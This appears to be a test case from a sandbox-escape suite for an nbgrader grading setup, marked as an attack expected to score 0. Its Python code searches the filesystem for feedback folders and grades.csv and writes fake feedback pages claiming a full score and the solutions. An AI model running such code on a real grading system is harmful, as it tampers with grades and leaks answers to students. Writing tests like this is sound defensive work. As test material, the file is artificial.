# attack: plant feedback pages (with the "solutions") wherever a feedback folder might be, for nbgrader's release_feedback to hand out
# kind: escape
# notebook: 01_mini_lesson
# expect: 0
# %% new
import os

PAGE = "<html><body>Score: 10 / 10 -- and here are the solutions: ...</body></html>"
targets = ["feedback", "../feedback", "../../feedback", "/tmp/feedback", os.path.expanduser("~/feedback")]
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if root != "/" or d not in ("proc", "sys", "dev", "usr")]
    if os.path.basename(root) == "feedback" or "grades.csv" in files:
        targets.append(root)
for folder in targets:
    for student in ("honest_fx", "honest_01", "escape_plant_feedback"):
        try:
            os.makedirs(os.path.join(folder, student), exist_ok=True)
            with open(os.path.join(folder, student, "01_mini_lesson.html"), "w") as f:
                f.write(PAGE)
        except OSError:
            pass
